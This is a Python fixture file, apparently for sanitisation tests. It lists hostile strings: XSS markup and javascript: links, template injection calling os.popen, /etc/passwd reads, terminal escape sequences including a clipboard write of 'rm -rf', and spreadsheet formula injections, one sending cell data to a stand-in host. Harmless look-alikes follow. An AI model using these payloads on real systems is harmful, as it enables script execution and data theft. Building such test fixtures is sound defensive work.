"""Texts that try to run, to fetch, to command a terminal or a spreadsheet, and look-alikes that mean no harm.

Each may be a prompt, an answer, a demonstration, or the name of a file, a column, a model or an author. What
runs calls `alert`, `confirm`, `prompt`, `print`, `console.log` or sets `window.ran`; what fetches asks HOST.
"""

HOST = "https://hostile.example"

MARKUP = {
    "script": "<script>alert(1)</script>",
    "script of another host": f"<script src={HOST}/x.js></script>",
    "module": f"<script type=module>import '{HOST}/x.js'</script>",
    "end of a script": "</script><script>alert(1)</script>",
    "end of a cell": "</td></tr></table><script>alert(1)</script>",
    "end of a title": "</title></head><body onload=alert(1)>",
    "end of a textarea": "</textarea><img src=x onerror=alert(1)>",
    "end of a style": "</style><img src=x onerror=alert(1)>",
    "end of an attribute": '"><img src=x onerror=alert(1)>',
    "end of a quoted attribute": "'><svg/onload=alert(1)>",
    "attribute alone": '" onmouseover="alert(1)" autofocus onfocus="alert(1)" x="',
    "image": "<img src=x onerror=alert(1)>",
    "image left open": "<img src=x onerror=alert(1)",
    "image in capitals": "<IMG SRC=x ONERROR=confirm(1)>",
    "image with a slash": '<img/src="x"/onerror=prompt(1)>',
    "image of another host": f"<img src={HOST}/x.png>",
    "image set": f"<img srcset='{HOST}/x.png 2x'>",
    "drawing": "<svg onload=alert(1)>",
    "drawing with a script": "<svg><script>alert(1)</script></svg>",
    "drawing that changes a link": "<svg><a><set attributeName=href to=javascript:alert(1) />x</a></svg>",
    "drawing of another host": f"<svg><image href='{HOST}/x.png'/></svg>",
    "details": "<details open ontoggle=alert(1)>x</details>",
    "video": f"<video src={HOST}/x.mp4 onerror=alert(1) poster={HOST}/x.png></video>",
    "frame": f"<iframe src={HOST}/></iframe>",
    "frame with a page": "<iframe srcdoc='<script>parent.ran = 1</script>'></iframe>",
    "frame with a script": "<iframe src=javascript:parent.alert(1)></iframe>",
    "object": f"<object data={HOST}/x></object><embed src={HOST}/y>",
    "link that runs": "<a href=javascript:alert(1)>go on</a>",
    "link that runs, disguised": "<a href='java&#10;script:alert(1)'>go on</a>",
    "link to a page in it": "<a href='data:text/html,<script>alert(1)</script>'>go on</a>",
    "form": f"<form action={HOST}/><button autofocus>go on</button></form>",
    "button that runs": "<form><button formaction=javascript:alert(1)>go on</button></form>",
    "base": f"<base href={HOST}/>",
    "style of another host": f"<link rel=stylesheet href={HOST}/x.css>",
    "style import": f"<style>@import '{HOST}/x.css';</style>",
    "style on an element": f"<p style=\"background:url('{HOST}/x.png')\">x</p>",
    "comment": "<!--><img src=x onerror=alert(1)>-->",
    "template": "<template><img src=x onerror=alert(1)></template>",
    "noscript": "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "clobbering": "<form id=Plotly><input name=newPlot></form><img name=currentScript>",
    "null in a name": "<scr\0ipt>alert(1)</scr\0ipt>",
}
"""What a browser would run or fetch if it stood on a page as markup."""

LEADING_AWAY = {"refresh": f"<meta http-equiv=refresh content='0;url={HOST}/'>"}
"""Markup that leaves the page by itself, which no policy in a page forbids: the gate alone refuses it."""

LATER_MARKUP = {
    "entities": "&lt;script&gt;alert(1)&lt;/script&gt;",
    "entities twice": "&amp;lt;img src=x onerror=alert(1)&amp;gt;",
    "numbered entities": "&#60;img src=x onerror=alert(1)&#62;",
    "unicode escapes": "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    "percent signs": "%3Cscript%3Ealert(1)%3C/script%3E",
    "an address that runs": "javascript:alert(1)",
    "an address in an address": "java\tscript:alert(1)",
    "Markdown link": "[go on](javascript:alert(1))",
    "Markdown image": f"![x]({HOST}/x.png)",
    "Markdown reference": f"[x][1]\n\n[1]: {HOST}/ 'x'",
    "Markdown table": "| a | <script>alert(1)</script> |\n|---|---|",
    "Markdown fence": "```{raw} html\n<script>alert(1)</script>\n```",
    "reStructuredText": "```{eval-rst}\n.. raw:: html\n\n   <script>alert(1)</script>\n```",
    "include": "```{include} /etc/passwd\n```",
    "substitution": "{{ cycler.__init__.__globals__.os.popen('id').read() }}",
    "template text": "${alert(1)} #{alert(1)} {%raw%}<%= 7*7 %>",
    "formula with a link": r"$\href{javascript:alert(1)}{x}$",
    "formula in brackets": r"\(\unicode[alert(1)]{x41}\) \[\require{html}\class{x}{y}\]",
    "formula with a request": rf"$$\includegraphics{{{HOST}/x.png}}$$",
    "formula without an end": r"$x{$ and $\nocommand$",
    "plotly's link": f'<a href="{HOST}/">go on</a>',
    "plotly's link that runs": "<a href='javascript:alert(1)'>go on</a>",
    "plotly's style": "<b style='font:url(x)'>bold</b><br>next<sub>2</sub><extra>y</extra>",
    "plotly's template": "%{customdata} %{fullData.name} %{y:.2f}",
    "names of JavaScript": "__proto__",
    "more names of JavaScript": "constructor.constructor('alert(1)')()",
    "line separators": "a\u2028alert(1)\u2029b",
    "a path out of the folder": "../../../etc/passwd",
}
"""Text that some later reader could take for markup, code or a formula."""

TERMINAL = {
    "clear the screen": "\x1b[2J\x1b[Hempty",
    "colours": "\x1b[31mred\x1b[0m",
    "title": "\x1b]0;hostile\x07x",
    "link": f"\x1b]8;;{HOST}/\x1b\\go on\x1b]8;;\x1b\\",
    "clipboard": "\x1b]52;c;cm0gLXJm\x07",
    "answer back": "\x1b[6n\x1b[c",
    "device control": '\x1bP$q"p\x1b\\x',
    "eight-bit control": "\x9b2Jx",
    "carriage return": "harmful\rharmless",
    "backspaces": "rm\b\bls",
    "bell and null": "a\x07b\0c",
    "reordered": "user\u202enimda",
    "isolated": "a\u2067b\u2069c",
    "invisible": "pass\u200bword\ufeff",
    "tags": "x\U000e0041\U000e0042",
}
"""What commands a terminal, or shows another text than it holds."""

FORMULAE = {
    "command": "=cmd|' /C calc'!A0",
    "plus": "+cmd|' /C calc'!A0",
    "minus": "-2+3+cmd|' /C calc'!A0",
    "at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "tab": "\t=1+1",
    "return": "\r=1+1",
    "line": "\n=1+1",
    "blank": "  =1+1",
    "wide": "＝1+1",
    "hidden": "\u200b=1+1",
    "address": f'=HYPERLINK("{HOST}/?"&A1,"go on")',
    "import": f'=IMPORTXML("{HOST}/","//a")',
    "quoted": '"=1+1"',
}
"""What a spreadsheet would compute."""

HOSTILE = {
    f"{kind}: {name}": text
    for kind, group in {
        "markup": MARKUP | LEADING_AWAY,
        "later": LATER_MARKUP,
        "terminal": TERMINAL,
        "formula": FORMULAE,
    }.items()
    for name, text in group.items()
}

HARMLESS = (
    "one = 1",
    "javascript: the good parts",
    "<3",
    "a < b and c > d & e",
    r"C:\path\new",
    "=)",
    "$x$ dollars, or $5 and $10",
    "it goes on = forever",
    "onclick=go() is old style",
    "the <iframe> element",
    "5 > 3 < 4",
    "R&D; AT&T; &c.",
    "f(x) = x**2 - 1",
    "-1.5",
    "+2e-05",
    "1,234.50",
    'don\'t "quote" me',
    "`code` and *stars* and _lines_",
    "# no heading",
    "- no list",
    "100 %",
    "naïve café, 漢字, עברית, 😀",
    "see https://example.org/a?b=c&d=e",
    "me@example.org",
    "{curly} [square] (round)",
    "two\nlines",
    "None, NaN, null, undefined",
    "_under",
)
